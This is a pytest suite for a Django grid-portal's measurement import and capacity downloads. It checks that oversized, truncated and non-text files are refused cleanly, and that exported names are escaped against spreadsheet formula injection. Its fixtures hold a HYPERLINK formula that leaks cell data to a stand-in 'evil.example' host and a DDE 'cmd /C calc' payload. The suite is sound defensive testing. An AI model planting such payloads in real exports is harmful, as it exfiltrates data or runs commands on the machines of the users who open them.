"""Files that broke imports and downloads in production: each gets a clear 4xx, never a 500.

Every file is generated here (gridportal/testing/files.py); none is committed.
"""

import csv
import html
import io
import re
import time

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.utils import translation
from openpyxl import load_workbook

from gridportal.capacity.models import LoadMeasurement
from gridportal.grid.models import PowerCentre
from gridportal.testing.files import (
    GIANT,
    SHEET,
    dimension_bomb,
    giant_shared_string,
    random_bytes,
    truncated,
    xlsx_bytes,
    xlsx_patch,
)

pytestmark = pytest.mark.django_db

URL = "/staff/capacity/import/measurements/"
HEADER = ["ЦП", "Трансформатор", "Нагрузка", "Дата", "Филиал"]
GOOD_ROW = ["ПС-1", "Т-1", 1, "18.06.2026", "karelia"]


def post(client, name, content):
    return client.post(URL, {"measurements-file": SimpleUploadedFile(name, content)})


def alert(page) -> str:
    """The text of the error messages on the page (the import list or the form field)."""
    body = page.content.decode()
    found = re.findall(r'<(?:li|p|div)[^>]*class="[^"]*error[^"]*"[^>]*>(.*?)</', body, re.S)
    found += re.findall(r'<ul class="import-errors">(.*?)</ul>', body, re.S)
    return html.unescape(" ".join(found))


@pytest.fixture
def en(client, officer):
    client.force_login(officer)
    client.cookies["django_language"] = "en"
    return client


def command_errors(tmp_path, capsys, name, content) -> str:
    path = tmp_path / name
    path.write_bytes(content)
    with translation.override("en"), pytest.raises(CommandError):
        call_command("import_measurements", str(path))
    return capsys.readouterr().err


# --- the dimension bomb ------------------------------------------------------------------


def test_a_workbook_declaring_the_whole_grid_is_imported_at_once(en, network, tmp_path):
    bomb = dimension_bomb([HEADER, GOOD_ROW])
    started = time.monotonic()
    page = post(en, "june.xlsx", bomb)
    assert time.monotonic() - started < 5
    assert page.status_code == 302
    assert LoadMeasurement.objects.filter(measured_on="2026-06-18").count() == 1
    path = tmp_path / "june.xlsx"
    path.write_bytes(bomb)
    started = time.monotonic()
    call_command("import_measurements", str(path))
    assert time.monotonic() - started < 5


# --- a 20 MB shared string ----------------------------------------------------------------


def test_a_giant_shared_string_gets_a_short_message_on_the_page(en, network):
    giant = giant_shared_string([HEADER, ["ПС-1", GIANT, 1, "18.06.2026"]], "Ж" * (20 << 20))
    page = post(en, "june.xlsx", giant)
    assert page.status_code == 400
    message = alert(page)
    assert "Row 2: a cell is longer than 32767 characters: «ЖЖЖ" in message
    assert len(message.encode()) < 1024
    assert len(page.content) < 200_000


def test_a_giant_shared_string_gets_a_short_message_from_the_command(network, tmp_path, capsys):
    giant = giant_shared_string([HEADER, ["ПС-1", GIANT, 1, "18.06.2026"]], "Ж" * (20 << 20))
    err = command_errors(tmp_path, capsys, "june.xlsx", giant)
    assert "Row 2: a cell is longer than 32767 characters" in err
    assert len(err.encode()) < 1024


# --- a CSV field over 131,072 characters -------------------------------------------------


def long_field_csv() -> bytes:
    return ("ЦП;Трансформатор;Нагрузка;Дата\nПС-1;" + "x" * 140_000 + ";1;18.06.2026\n").encode()


def test_a_long_csv_field_is_a_row_numbered_message_on_the_page(client, officer, network):
    client.force_login(officer)  # Russian, the default
    page = post(client, "june.csv", long_field_csv())
    assert page.status_code == 400
    assert "Строка 2: в ячейке больше 32767 символов." in alert(page)


def test_a_long_csv_field_is_a_row_numbered_message_from_the_command(network, tmp_path, capsys):
    err = command_errors(tmp_path, capsys, "june.csv", long_field_csv())
    assert "Row 2: a cell is longer than 32767 characters." in err


# --- bytes in neither UTF-8 nor Windows-1251 ---------------------------------------------

NOT_TEXT = (
    "The file is neither an XLSX workbook nor text in UTF-8 or Windows-1251; "
    "save it as «CSV UTF-8» and upload it again."
)


@pytest.mark.parametrize(
    "content",
    [
        "ЦП;Трансформатор;Нагрузка;Дата\nПС-1;Т-1;1;18.06.2026\n".encode("utf-16-le"),
        random_bytes(),
    ],
    ids=["utf-16-without-bom", "random"],
)
def test_bytes_that_are_not_text_are_refused_clearly(en, network, tmp_path, capsys, content):
    page = post(en, "june.csv", content)
    assert page.status_code == 400
    assert NOT_TEXT in alert(page)
    assert NOT_TEXT in command_errors(tmp_path, capsys, "june.csv", content)


# --- a truncated workbook ----------------------------------------------------------------


def test_a_truncated_workbook_is_refused_clearly(en, network, tmp_path, capsys):
    content = truncated(xlsx_bytes([HEADER] + [GOOD_ROW] * 300))
    page = post(en, "june.xlsx", content)
    assert page.status_code == 400
    assert "The file is not a readable XLSX workbook." in alert(page)
    assert "not a readable XLSX workbook" in command_errors(tmp_path, capsys, "june.xlsx", content)


def test_a_sheet_cut_short_inside_is_refused_at_its_row(en, network, tmp_path, capsys):
    content = xlsx_patch(
        xlsx_bytes([HEADER, GOOD_ROW, GOOD_ROW]),
        SHEET,
        lambda xml: xml[: xml.index(b'<row r="3"') + 20],
    )
    page = post(en, "june.xlsx", content)
    assert page.status_code == 400
    assert "damaged or cut short" in alert(page)
    assert "damaged or cut short" in command_errors(tmp_path, capsys, "june.xlsx", content)


def test_a_workbook_named_csv_is_refused_on_the_form(en, network):
    page = post(en, "june.csv", xlsx_bytes([HEADER, GOOD_ROW]))
    assert page.status_code == 400
    assert "Upload a .csv or .xlsx file." in alert(page)


# --- formulas in the downloads ------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'


@pytest.fixture
def formula_names(network):
    PowerCentre.objects.filter(pk=network["north"].pk).update(name=HYPERLINK)
    PowerCentre.objects.filter(pk=network["lake"].pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")


def test_the_csv_download_writes_formula_names_as_text(client, formula_names):
    response = client.get("/capacity/power-centres.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {r["Центр питания"] for r in rows}
    assert "'" + HYPERLINK in names
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
    north = next(r for r in rows if r["Центр питания"] == "'" + HYPERLINK)
    assert north["Резерв, МВА"] == "12.2"  # numbers stay numbers


def test_the_xlsx_download_writes_formula_names_as_strings(client, formula_names):
    response = client.get("/capacity/power-centres.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[2]]
    column = header.index("Центр питания") + 1
    cells = {
        sheet.cell(row=r, column=column).value: sheet.cell(row=r, column=column)
        for r in range(3, sheet.max_row + 1)
    }
    cell = cells["'" + HYPERLINK]
    assert cell.data_type == "s"
    assert cells["'@SUM(1+1)*cmd|' /C calc'!A0"].data_type == "s"
    reserve = sheet.cell(row=cell.row, column=header.index("Резерв, МВА") + 1)
    assert reserve.data_type == "n"


@pytest.mark.parametrize("load", ["NaN", "1e999999999", "Infinity"])
def test_numbers_that_are_not_loads_are_row_errors(en, network, load):
    page = post(
        en, "june.csv", f"ЦП;Трансформатор;Нагрузка;Дата\nПС-1;Т-1;{load};18.06.2026\n".encode()
    )
    assert page.status_code == 400
    assert f"Row 2: the load «{load}» is not a number of MVA" in alert(page)
